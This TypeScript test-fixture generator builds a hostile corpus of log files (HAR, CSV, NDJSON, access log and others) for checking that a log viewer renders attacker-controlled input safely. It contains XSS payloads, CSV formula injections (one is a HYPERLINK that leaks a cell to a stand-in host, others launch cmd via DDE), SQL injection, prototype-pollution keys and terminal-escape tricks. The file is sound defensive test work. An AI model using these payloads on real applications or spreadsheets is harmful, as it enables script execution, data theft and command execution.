// The hostile corpus: one log per format with attacker-chosen text in every field, JSON keys and
// CSV headers included. tests/fixtures/hostile/<format>/ holds the files this writes (so the browser
// end-to-end test can drop them); hostile-corpus.test.ts checks the two never drift apart
// (UPDATE_HOSTILE=1 rewrites the files). Markers are documented in tests/fixtures/hostile/README.md.

/** Every payload that would run sets `window.__pwned` to its own number. */
export const PWNED_GLOBAL = '__pwned'
/** Host of every remote URL in the corpus: no request may ever go there. */
export const EVIL_HOST = 'evil.example'

export const PAYLOADS = {
  img: '<img src=x onerror="window.__pwned=1">',
  script: '<script>window.__pwned=2</script>',
  jsUrl: 'javascript:window.__pwned=3',
  dataUrl: 'data:text/html,<script>window.__pwned=4</script>',
  svg: '<svg/onload=window.__pwned=5>',
  iframe: '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>',
  attribute: '" autofocus onfocus="window.__pwned=7" x="',
  template: "{{constructor.constructor('window.__pwned=8')()}} ${window.__pwned=9}",
  markup: '<b data-pwned="markup">bold</b><a href="javascript:window.__pwned=10">link</a>',
  remote: `<img src="https://${EVIL_HOST}/pixel.gif"><link rel=stylesheet href="https://${EVIL_HOST}/x.css">`,
  ansi: '\u001b[31mred\u001b[0m\u001b[2J\u001b]0;pwned-title\u0007\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  bidi: 'invoice\u202Egnp.exe\u202C \u2066isolate\u2069 \u200Fmark',
  c0: 'nul\u0000bel\u0007bs\u0008vt\u000bff\u000cdel\u007fend',
  c1: 'csi\u009b31mnel\u0085osc\u009dend',
  invisible: 'zero\u200bwidth\u200djoiner\ufeffbom\u2028line\u2029para',
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
  formulaPlus: "+cmd|' /C calc'!A0",
  formulaMinus: '-2+3+cmd|\' /C calc\'!A0',
  formulaAt: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  sql: "'; DROP TABLE entries; --",
  proto: '__proto__',
} as const

export type PayloadName = keyof typeof PAYLOADS

/** A value far longer than any cell or tooltip shows. */
export const LONG_VALUE = `long-${'L'.repeat(40_000)}-end`

/** The HAR cookie's value (redacted on import unless secrets are kept). */
export const COOKIE_VALUE = 'session-<img src=x onerror="window.__pwned=11">'

/** Every payload joined: for fields that take one string. */
export const ALL_IN_ONE = Object.values(PAYLOADS).join(' | ')

const P = PAYLOADS
const T0 = '2024-05-01T10:00:00.000Z'

function harEntry(index: number, fields: Record<string, unknown>): Record<string, unknown> {
  return {
    startedDateTime: `2024-05-01T10:00:0${index}.000Z`,
    time: 12,
    request: { method: 'GET', url: `https://api.example.com/v${index}`, httpVersion: 'HTTP/1.1', cookies: [], headers: [], queryString: [], headersSize: -1, bodySize: -1 },
    response: { status: 200, statusText: 'OK', httpVersion: 'HTTP/1.1', cookies: [], headers: [], content: { size: 0, mimeType: 'text/plain' }, redirectURL: '', headersSize: -1, bodySize: -1 },
    cache: {},
    timings: { send: 0, wait: 12, receive: 0 },
    ...fields,
  }
}

function har(): string {
  const headers = Object.entries(P).map(([name, value]) => ({ name: `X-${name}`, value }))
  const entries = [
    harEntry(1, {
      request: {
        method: 'POST',
        url: `https://api.example.com/v1/${P.script}/${P.bidi}?q=${P.img}&next=${P.jsUrl}`,
        httpVersion: 'HTTP/1.1',
        // a cookie value is a credential: redaction masks it (a value of its own, so nothing else is)
        cookies: [{ name: P.svg, value: COOKIE_VALUE }],
        headers: [{ name: P.img, value: P.script }, { name: 'Referer', value: P.jsUrl }, { name: 'User-Agent', value: P.ansi }, ...headers],
        queryString: [{ name: P.img, value: P.script }],
        postData: { mimeType: 'application/json', text: JSON.stringify({ [P.img]: P.script, [P.proto]: { polluted: P.markup }, formula: P.formula, bidi: P.bidi, c0: P.c0 }) },
        headersSize: -1,
        bodySize: -1,
      },
      response: {
        status: 500,
        statusText: `Internal ${P.script} ${P.ansi}`,
        httpVersion: 'HTTP/1.1',
        cookies: [],
        headers: [{ name: 'Content-Type', value: 'text/html' }, { name: 'Location', value: P.jsUrl }, { name: P.svg, value: P.dataUrl }],
        content: { size: 0, mimeType: 'text/html', text: `<html><body>${P.img}${P.iframe}${P.markup}${P.remote}</body></html>` },
        redirectURL: P.jsUrl,
        headersSize: -1,
        bodySize: -1,
      },
      [P.img]: P.script,
      comment: ALL_IN_ONE,
    }),
    harEntry(2, {
      request: { method: P.script, url: `${P.jsUrl}`, httpVersion: P.c1, cookies: [], headers: [], queryString: [], headersSize: -1, bodySize: -1 },
      response: {
        status: 400,
        statusText: P.bidi,
        httpVersion: 'HTTP/1.1',
        cookies: [],
        headers: [{ name: 'Content-Type', value: 'application/json' }],
        content: { size: 0, mimeType: 'application/json', text: JSON.stringify({ error: { code: P.formula, message: `${P.img} ${P.c0} ${P.invisible}` } }) },
        redirectURL: '',
        headersSize: -1,
        bodySize: -1,
      },
    }),
    harEntry(3, {
      request: { method: 'GET', url: `https://api.example.com/long?v=${LONG_VALUE}`, httpVersion: 'HTTP/1.1', cookies: [], headers: [{ name: 'X-Long', value: LONG_VALUE }], queryString: [], headersSize: -1, bodySize: -1 },
      response: {
        status: 200,
        statusText: 'OK',
        httpVersion: 'HTTP/1.1',
        cookies: [],
        headers: [{ name: 'Content-Type', value: 'text/html' }],
        content: { size: 0, mimeType: 'text/html', encoding: 'base64', text: Buffer.from(`${P.script}${P.img}`).toString('base64') },
        redirectURL: '',
        headersSize: -1,
        bodySize: -1,
      },
    }),
    harEntry(4, { startedDateTime: P.script, time: P.img }),
  ]
  return JSON.stringify({ log: { version: '1.2', creator: { name: P.script, version: P.ansi }, pages: [{ title: P.img }], entries } }, null, 2) + '\n'
}

function ndjsonRecord(index: number, extra: Record<string, unknown>): Record<string, unknown> {
  return { time: `2024-05-01T10:00:0${index}Z`, method: 'GET', url: `/v${index}`, status: 200, ...extra }
}

function ndjsonRecords(): Array<Record<string, unknown>> {
  return [
    ndjsonRecord(1, {
      method: 'POST',
      url: `/v1/${P.script}/${P.bidi}?q=${P.img}`,
      status: 500,
      user: P.svg,
      agent: P.bidi,
      service: P.markup,
      tenant: P.formula,
      request_id: P.ansi,
      client_ip: P.c0,
      error: { message: `${P.img} ${P.ansi} ${P.c1}` },
      [P.img]: P.script,
      [P.ansi]: P.c0,
      [P.bidi]: P.invisible,
      request: { headers: { [P.script]: P.img, 'X-Formula': P.formulaPlus, Referer: P.jsUrl }, body: { [P.svg]: P.dataUrl, nested: [P.iframe, P.template] } },
      response: { headers: { 'Content-Type': 'text/html', [P.iframe]: P.remote }, body: `<html>${P.img}${P.markup}</html>` },
    }),
    ndjsonRecord(2, { status: 403, user: P.attribute, function: P.template, error: { message: ALL_IN_ONE } }),
    ndjsonRecord(3, { url: `/long?v=${LONG_VALUE}`, user: LONG_VALUE }),
    ndjsonRecord(4, { function: P.sql, user: P.ansi, url: P.jsUrl, status: 418, [P.proto]: { polluted: 'yes' }, constructor: { prototype: { polluted: 'yes' } } }),
    // no HTTP method and no status: not an API call, skipped (and counted)
    ndjsonRecord(5, { method: P.sql, url: P.dataUrl, status: P.formulaMinus }),
  ]
}

function ndjson(): string {
  const lines = ndjsonRecords().map((r) => JSON.stringify(r))
  // raw control characters inside a JSON string are invalid JSON: reported, never a crash
  lines.splice(3, 0, `{"time":"${T0}","url":"/raw-controls","msg":"bell\u0007esc\u001b[2J"}`)
  return lines.join('\n') + '\n'
}

function json(): string {
  return JSON.stringify({ [P.script]: P.img, records: ndjsonRecords() }, null, 1) + '\n'
}

/** RFC 4180: quoted, quotes doubled. */
const csvCell = (value: string) => `"${value.replace(/"/g, '""')}"`
const csvLine = (cells: string[]) => cells.map(csvCell).join(',')

function csv(): string {
  const header = ['Date', 'Type', 'Code', 'Status', 'Status details', 'IP', 'Timing', 'API collection', 'Endpoint', 'Client', 'Job details', P.img, P.formula, P.ansi, P.bidi, P.script]
  const rows = [
    [T0, 'Error', '500', P.script, `${P.img} ${P.ansi}`, P.c0, '12 ms', P.markup, `GET /v1/${P.svg}`, P.bidi, P.jsUrl, P.iframe, P.formula, P.c1, P.invisible, P.template],
    ['2024-05-01T10:00:01.000Z', 'Success', '200', 'OK', P.formulaPlus, '198.51.100.7', '3 ms', P.formulaMinus, `POST /v2/${P.dataUrl}`, P.formulaAt, P.remote, `multi\nline\r\n${P.img}`, P.sql, P.attribute, P.proto, ALL_IN_ONE],
    ['2024-05-01T10:00:02.000Z', 'Success', '200', 'OK', LONG_VALUE, '198.51.100.8', '1 ms', 'Orders', 'GET /long', LONG_VALUE, '', '', '', '', '', ''],
  ]
  return [header, ...rows].map(csvLine).join('\r\n') + '\r\n'
}

/** VICIdial's report wraps every value in quotes and escapes nothing. */
const reportLine = (cells: string[]) => cells.map((c) => `"${c}"`).join(',')

function vicidial(): string {
  const header = ['API DATE', 'USER', 'API SCRIPT', 'FUNCTION', 'AGENT USER', 'VALUE', 'RESULT', 'RESULT REASON', 'SOURCE', 'DATA', 'RUN TIME', 'WEBSERVER', 'API URL', P.img, 'REMOTE IP', 'FULL URL STRING']
  const url = `http://dialer.example.com/vicidial/non_agent_api.php?source=${P.script}&user=${P.svg}&function=add_lead&comments=${P.img}`
  const rows = [
    ['2024-03-12 14:04:10', `${P.svg} - ${P.bidi}`, 'non-agent', P.script, `${P.img} - ${P.ansi}`, P.formula, 'ERROR', `${P.img} ${P.c0}`, P.markup, `${P.iframe}|${P.c1}`, '0.021877', '1', '1', P.template, P.attribute, url],
    ['2024-03-12 14:05:00', 'apiuser - API User', 'agent', 'external_dial', '1001 - Agent', P.formulaPlus, 'SUCCESS', P.invisible, P.jsUrl, P.dataUrl, '0.003', '1', '1', P.formulaAt, '203.0.113.9', `https://dialer.example.com/agc/api.php?value=${P.jsUrl}`],
    ['2024-03-12 14:06:00', 'apiuser - API User', 'agent', 'external_dial', '1001 - Agent', LONG_VALUE, 'NOTICE', LONG_VALUE, 'crm', '', '0.003', '1', '1', '', '203.0.113.9', ''],
  ]
  const lines = [
    reportLine(['API ACCESS LOG REPORT']),
    reportLine(['API DATE RANGE:', '2024-03-12 14:00:00 to 2024-03-12 14:10:00']),
    reportLine(['USERS:', P.script]),
    '',
    reportLine(header),
    ...rows.map(reportLine),
  ]
  return lines.join('\n') + '\n'
}

function accessLog(): string {
  const stamp = '[01/May/2024:10:00:00 +0000]'
  return [
    // Apache escapes a double quote in the request as \" and control bytes as \xHH
    `203.0.113.5 - ${P.svg.replace(/ /g, '_')} ${stamp} "GET /v1/<script>window.__pwned=2</script>?q=<img%20src=x%20onerror=window.__pwned=1> HTTP/1.1" 500 123 "${P.jsUrl}" "<img src=x onerror=\\"window.__pwned=1\\"> \\x1b[31mred\\x1b[0m"`,
    // raw bytes nobody escaped: ANSI, bidi, C1, NUL
    `203.0.113.6 - - ${stamp} "POST /v2/${P.bidi.replace(/ /g, '')} HTTP/1.1" 403 0 "${P.dataUrl.replace(/ /g, '')}" "${P.ansi} ${P.c1} ${P.c0}"`,
    `203.0.113.7 - ${P.formula.replace(/[ "]/g, '_')} ${stamp} "GET /long?v=${LONG_VALUE} HTTP/1.1" 200 5 "-" "${P.markup.replace(/"/g, "'")}"`,
    `203.0.113.8 - - ${stamp} "${P.script} /x HTTP/1.1" 404 0 "-" "${P.template}"`,
  ].join('\n') + '\n'
}

/** format → file name → content, as written under tests/fixtures/hostile/. */
export function hostileCorpus(): Record<string, Record<string, string>> {
  return {
    har: { 'hostile.har': har() },
    csv: { 'hostile.csv': csv() },
    vicidial: { 'hostile-report.csv': vicidial() },
    ndjson: { 'hostile.ndjson': ndjson() },
    json: { 'hostile.json': json() },
    'access-log': { 'hostile.log': accessLog() },
  }
}
